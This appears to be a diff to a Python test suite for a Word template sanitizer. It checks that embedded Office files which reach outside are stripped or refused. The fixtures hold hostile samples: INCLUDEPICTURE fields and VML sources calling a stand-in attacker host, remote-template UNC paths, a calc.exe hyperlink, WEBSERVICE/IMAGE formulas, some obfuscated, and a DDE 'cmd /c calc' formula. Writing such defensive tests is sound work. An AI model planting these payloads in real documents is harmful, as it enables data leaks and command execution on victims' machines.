@@ -18,6 +18,8 @@ from docxtpl_support import UNIT_ROWS, paragraphs_template, parts_of, with_parts
 from openpyxl import Workbook
 
 from docgen.errors import InputError, UnreadableDocumentError
+from docgen.ooxml.embedded import Budget, reach
+from docgen.ooxml.package import DEFAULT_LIMITS, read_package
 from docgen.ooxml.sanitize import sanitize_template
 from docgen.render.fastpath import prepare
 
@@ -184,6 +186,33 @@ def test_a_macrobutton_keeps_its_text_and_runs_nothing() -> None:
     assert sum("按钮域" in note for note in clean.notes) == 2
     again = sanitize_template(clean.data, "按钮.docx")  # NoMacro is left as it is
     assert not [note for note in again.notes if "按钮域" in note]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [' "MACROBUTTON" FileOpen 点击 ', ' MACROBUTTON"FileOpen"点击 ', " macrobutton fileopen 点击 "],
+)
+def test_a_macrobutton_written_otherwise_runs_nothing_too(code: str) -> None:
+    clean = sanitize_template(_template(f"<w:p>{_field(code, '')}</w:p>"), "按钮.docx")
+    document = clean.parts["word/document.xml"].decode()
+    assert "FileOpen" not in document and "fileopen" not in document
+    assert "NoMacro" in document and "点击" in document
+
+
+def test_a_macrobutton_with_a_field_in_its_code_is_refused_unless_it_runs_nothing() -> None:
+    def button(start: str) -> str:
+        return (
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'<w:r><w:instrText xml:space="preserve">{start}</w:instrText></w:r>'
+            + _field(' QUOTE "Open" ')
+            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
+
+    with pytest.raises(InputError, match="按钮域") as caught:
+        sanitize_template(_template(button(" MACROBUTTON File")), "按钮.docx")
+    assert caught.value.location is not None and caught.value.location.paragraph == 2
+    sanitize_template(_template(button(" MACROBUTTON NoMacro ")), "按钮.docx")
 
 
 def test_a_macrobutton_spelt_by_a_nested_field_is_refused() -> None:
@@ -384,98 +413,146 @@ OFFICE_TYPES = {
 }
 
 
-def _with_office_file(inner: bytes, suffix: str = "docx") -> bytes:
-    """A template embedding the Office file ``inner`` (as Word embeds one: a package part)."""
+def _with_office_file(inner: bytes, suffix: str = "docx", kind: str = "package") -> bytes:
+    """A template embedding the Office file ``inner`` as Word embeds one (a package part), or
+    through a relationship of another ``kind``."""
     target = f"embeddings/Object1.{suffix}"
-    outer = _ole(PREVIEW, "package", target, "Word.Document.12")
-    kind = OFFICE_TYPES[suffix]
+    outer = _ole(PREVIEW, kind, target, "Word.Document.12")
     return with_parts(
         outer,
         {
             f"word/{target}": inner,
             "[Content_Types].xml": parts_of(outer)["[Content_Types].xml"].replace(
                 b"</Types>",
-                f'<Default Extension="{suffix}" ContentType="{kind}"/></Types>'.encode(),
+                f'<Default Extension="{suffix}" ContentType="{OFFICE_TYPES[suffix]}"/>'
+                "</Types>".encode(),
             ),
         },
     )
 
 
-def _word_file(body: str = "", rels: str = "") -> bytes:
-    """A real Word file (python-docx's blank document) with ``body`` and relationships added."""
+def _package(parts: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, blob in parts.items():
+            archive.writestr(name, blob)
+    return buffer.getvalue()
+
+
+def _word_file(body: str = "", rels: str = "", parts: dict[str, bytes] | None = None) -> bytes:
+    """A real Word file (python-docx's blank document) with ``body``, relationships of the
+    body and ``parts`` added."""
     docx = Document()
     docx.add_paragraph("附表")
     buffer = io.BytesIO()
     docx.save(buffer)
-    data = buffer.getvalue()
-    old = parts_of(data)
-    return with_parts(
-        data,
-        {
-            "word/document.xml": old["word/document.xml"].replace(
-                b"<w:sectPr", body.encode() + b"<w:sectPr", 1
-            ),
-            "word/_rels/document.xml.rels": old["word/_rels/document.xml.rels"].replace(
-                b"</Relationships>", rels.encode() + b"</Relationships>"
-            ),
-        },
+    old = parts_of(buffer.getvalue())
+    old["word/document.xml"] = old["word/document.xml"].replace(
+        b"<w:sectPr", body.encode() + b"<w:sectPr", 1
     )
+    old["word/_rels/document.xml.rels"] = old["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>", rels.encode() + b"</Relationships>"
+    )
+    return _package({**old, **(parts or {})})
 
 
-def _excel_file(formula: str) -> bytes:
+def _excel_file(formula: str, sheet: str | None = None) -> bytes:
+    """A real workbook (openpyxl's) with ``formula`` in A1, or with the sheet XML changed."""
     book = Workbook()
     book.active["A1"] = formula
     buffer = io.BytesIO()
     book.save(buffer)
-    return buffer.getvalue()
+    parts = parts_of(buffer.getvalue())
+    if sheet is not None:
+        parts["xl/worksheets/sheet1.xml"] = re.sub(
+            rb"<sheetData>.*</sheetData>",
+            lambda _: sheet.encode(),
+            parts["xl/worksheets/sheet1.xml"],
+        )
+    return _package(parts)
 
 
-INCLUDE = (
-    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
-    f' INCLUDEPICTURE "http://{EVIL}/a.png" \\d </w:instrText></w:r><w:r><w:fldChar '
-    'w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r><w:r><w:fldChar '
-    'w:fldCharType="end"/></w:r></w:p>'
-)
-LINK = '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
-
-
-def test_an_embedded_office_file_that_reaches_nothing_stays_as_it_was() -> None:
-    inner = _word_file(
-        LINK,
-        f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" Target="https://www.gov.cn/" '
-        'TargetMode="External"/>',
+def _field_paragraph(code: str) -> str:
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
+        f'xml:space="preserve">{code}</w:instrText></w:r><w:r><w:fldChar '
+        'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar '
+        'w:fldCharType="end"/></w:r></w:p>'
     )
+
+
+def _rel(kind: str, target: str, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="rIdX" Type="{REL}{kind}" Target="{target}"{mode}/>'
+
+
+def test_an_ordinary_embedded_document_or_workbook_stays_as_it_was() -> None:
+    inner = _word_file(_field_paragraph(" PAGE ") + _field_paragraph(" DATE \\@ yyyy "))
     clean = sanitize_template(_with_office_file(inner), "对象.docx")
     assert clean.parts["word/embeddings/Object1.docx"] == inner and not clean.notes
     assert b"OLEObject" in clean.parts["word/document.xml"]
-    clean = sanitize_template(_with_office_file(_excel_file("=SUM(1,2)"), "xlsx"), "对象.docx")
-    assert "word/embeddings/Object1.xlsx" in clean.parts and not clean.notes
+    workbook = _excel_file('=ROUND(SUM(B1:B9)/COUNT(B1:B9),2)&"元"')
+    clean = sanitize_template(_with_office_file(workbook, "xlsx"), "对象.docx")
+    assert clean.parts["word/embeddings/Object1.xlsx"] == workbook and not clean.notes
+
+
+def test_a_charts_own_workbook_stays() -> None:
+    """Word keeps a chart's data in an embedded workbook: an ordinary one, kept."""
+    from docgen.ooxml.chart import (
+        ChartData,
+        ChartFont,
+        EmbeddedChart,
+        chart_xml,
+        embed,
+        inline_drawing_xml,
+        workbook_bytes,
+    )
+
+    data = ChartData(("市委办公室", "市信访局"), (("完成率", (0.5, 0.25)),), "0.0%", 1.0)
+    xml = chart_xml(data, ChartFont("仿宋_GB2312", "仿宋_GB2312", 14))
+    chart = EmbeddedChart(1, "rIdChart1", xml, workbook_bytes(data))
+    drawing = inline_drawing_xml("rIdChart1", 1, "完成率", 5_000_000, 3_000_000)
+    template = embed(_template(drawing), "图表.docx", [chart])
+    clean = sanitize_template(template, "图表.docx")
+    assert clean.parts[chart.workbook_part] == chart.workbook and not clean.notes
+
+
+INCLUDE = _field_paragraph(f' INCLUDEPICTURE "http://{EVIL}/a.png" \\d ')
+LINK = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
+STRICT_BODY = '<w:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"><s:r/></w:p>'
+VML_SOURCE = f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src="\\\\{EVIL}\\a.png"/></v:shape></w:pict></w:r></w:p>'
 
 
 @pytest.mark.parametrize(
     ("inner", "said"),
     [
-        (_word_file(INCLUDE), "读取外部内容或运行命令的域"),
-        (
-            _word_file(
-                rels=f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" '
-                f'Target="\\\\{EVIL}\\share\\t.dotm" TargetMode="External"/>'
-            ),
-            EVIL,
-        ),
-        (
-            _word_file(
-                LINK,
-                f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" '
-                'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>',
-            ),
-            "calc.exe",
-        ),
-        (b"\xd0\xcf\x11\xe0" + b"\0" * 60, "无法按 Office 文件读取"),
+        (_word_file(INCLUDE), "域（INCLUDEPICTURE）"),
+        (_word_file(_field_paragraph(' HYPERLINK "file:///C:/calc.exe" ')), "域（HYPERLINK）"),
+        (_word_file(rels=_rel("attachedTemplate", f"\\\\{EVIL}\\t.dotm")), EVIL),
+        (_word_file(LINK, _rel("hyperlink", "https://www.gov.cn/")), "https://www.gov.cn/"),
+        (_word_file(rels=_rel("aFChunk", "chunk.html", external=False)), "aFChunk"),
+        (_word_file(STRICT_BODY), "Strict"),
+        (_word_file(VML_SOURCE), f"\\\\{EVIL}"),
+        (_word_file(parts={"word/inner.bin": _word_file()}), "嵌有另一个文件"),
+        (_word_file(parts={"word/vbaProject.bin": b"\x00VBA"}), "未声明类型"),
+        (_word_file(parts={"word/pic.svg": "<svg/>".encode("utf-16")}), "word/pic.svg"),
+        (b"PK\x03\x04" + b"\x00" * 60, "无法按 Office 文件读取"),
     ],
-    ids=["includepicture-field", "remote-template", "program-link", "not-a-package"],
+    ids=[
+        "includepicture-field",
+        "program-hyperlink-field",
+        "remote-template",
+        "any-external-relationship",
+        "altchunk",
+        "strict-namespace",
+        "vml-picture-address",
+        "nested-package",
+        "undeclared-part",
+        "utf16-svg",
+        "broken-zip",
+    ],
 )
-def test_an_embedded_word_file_that_reaches_outside_goes_with_its_reason(
+def test_an_embedded_word_file_that_is_not_ordinary_goes_with_its_reason(
     inner: bytes, said: str
 ) -> None:
     clean = sanitize_template(_with_office_file(inner), "对象.docx")
@@ -487,25 +564,89 @@ def test_an_embedded_word_file_that_reaches_outside_goes_with_its_reason(
     prepare(clean.data, "对象.docx").render(UNIT_ROWS[0])
 
 
-def test_an_embedded_workbook_that_calls_the_web_goes() -> None:
-    template = _with_office_file(_excel_file(f'=WEBSERVICE("http://{EVIL}/q")'), "xlsx")
-    clean = sanitize_template(template, "对象.docx")
+@pytest.mark.parametrize(
+    "sheet",
+    [
+        f'<sheetData><row r="1"><c r="A1"><f>_xlfn.IMAGE("http://{EVIL}/a.png")</f></c></row></sheetData>',
+        f'<sheetData><row r="1"><c r="A1"><f>&#87;EBSERVICE("http://{EVIL}/")</f></c></row></sheetData>',
+        f'<sheetData><row r="1"><c r="A1"><f><![CDATA[WEBSERVICE("http://{EVIL}/")]]></f></c></row></sheetData>',
+        '<sheetData><row r="1"><c r="A1"><f>cmd|\' /c calc\'!A0</f></c></row></sheetData>',
+        '<sheetData><row r="1"><c r="A1"><f>\'C:\\x\\[a.xlsx]S\'!A1</f></c></row></sheetData>',
+    ],
+    ids=["image", "char-reference", "cdata", "dde", "other-file"],
+)
+def test_an_embedded_workbook_whose_formulas_reach_outside_goes(sheet: str) -> None:
+    clean = sanitize_template(_with_office_file(_excel_file("1", sheet), "xlsx"), "对象.docx")
     assert "word/embeddings/Object1.xlsx" not in clean.parts
-    assert any("访问网址或调用程序的公式" in note for note in clean.notes)
-    linked = parts_of(_excel_file("=1"))
-    linked["[Content_Types].xml"] = linked["[Content_Types].xml"].replace(
-        b"</Types>",
-        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
-        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+    assert any("公式" in note for note in clean.notes)
+
+
+def test_an_embedded_workbook_linking_another_goes_however_its_part_is_declared() -> None:
+    parts = parts_of(_excel_file("=1"))
+    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        f'<Relationship Id="rIdL" Type="{REL}externalLink" '
+        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
     )
-    linked["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for name, blob in linked.items():
-            archive.writestr(name, blob)
-    clean = sanitize_template(_with_office_file(buffer.getvalue(), "xlsx"), "对象.docx")
+    clean = sanitize_template(_with_office_file(_package(parts), "xlsx"), "对象.docx")
     assert "word/embeddings/Object1.xlsx" not in clean.parts
-    assert any("externalLink1.xml" in note for note in clean.notes)
+    assert any("externalLink" in note for note in clean.notes)
+
+
+@pytest.mark.parametrize("kind", ["Package", "image", "oleObject"])
+def test_an_embedded_file_is_known_by_its_bytes_whatever_its_relationship_says(
+    kind: str,
+) -> None:
+    inner = _word_file(rels=_rel("image", f"http://{EVIL}/a.png"))
+    clean = sanitize_template(_with_office_file(inner, kind=kind), "对象.docx")
+    assert "word/embeddings/Object1.docx" not in clean.parts
+    _no_evil(clean.parts)
+
+
+def test_an_embedded_file_named_many_times_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    import docgen.ooxml.sanitize as sanitize
+
+    calls = []
+    original = sanitize.reach
+    monkeypatch.setattr(sanitize, "reach", lambda *a: calls.append(1) or original(*a))
+    template = _with_office_file(_word_file())
+    old = parts_of(template)
+    rels = old["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>",
+        b"".join(
+            f'<Relationship Id="rIdCopy{n}" Type="{REL}package" '
+            'Target="embeddings/Object1.docx"/>'.encode()
+            for n in range(40)
+        )
+        + b"</Relationships>",
+    )
+    sanitize_template(with_parts(template, {"word/_rels/document.xml.rels": rels}), "对象.docx")
+    assert len(calls) == 1
+
+
+def test_an_ordinary_presentation_is_ordinary_too() -> None:
+    from pptx import Presentation
+
+    deck = Presentation()
+    deck.slides.add_slide(deck.slide_layouts[1]).shapes.title.text = "工作汇报"
+    buffer = io.BytesIO()
+    deck.save(buffer)
+    assert reach(buffer.getvalue(), DEFAULT_LIMITS, Budget(DEFAULT_LIMITS.max_total_bytes)) is None
+
+
+def test_a_package_with_two_parts_of_one_name_or_a_broken_stream_is_refused_in_chinese() -> None:
+    twice = io.BytesIO()
+    with zipfile.ZipFile(twice, "w") as archive, pytest.warns(UserWarning):
+        archive.writestr("word/document.xml", b"<a/>")
+        archive.writestr("word/document.xml", b"<b/>")
+    with pytest.raises(UnreadableDocumentError, match=r"有两个 word/document\.xml"):
+        read_package(twice.getvalue(), "重名.docx")
+    data = bytearray(_word_file())
+    start = data.index(b"word/document.xml") + len("word/document.xml")
+    data[start + 10 : start + 40] = b"\xff" * 30  # inside the deflate stream
+    with pytest.raises(UnreadableDocumentError, match="压缩包已损坏"):
+        read_package(bytes(data), "坏.docx")
 
 
 def test_a_disguised_embedded_object_goes() -> None:
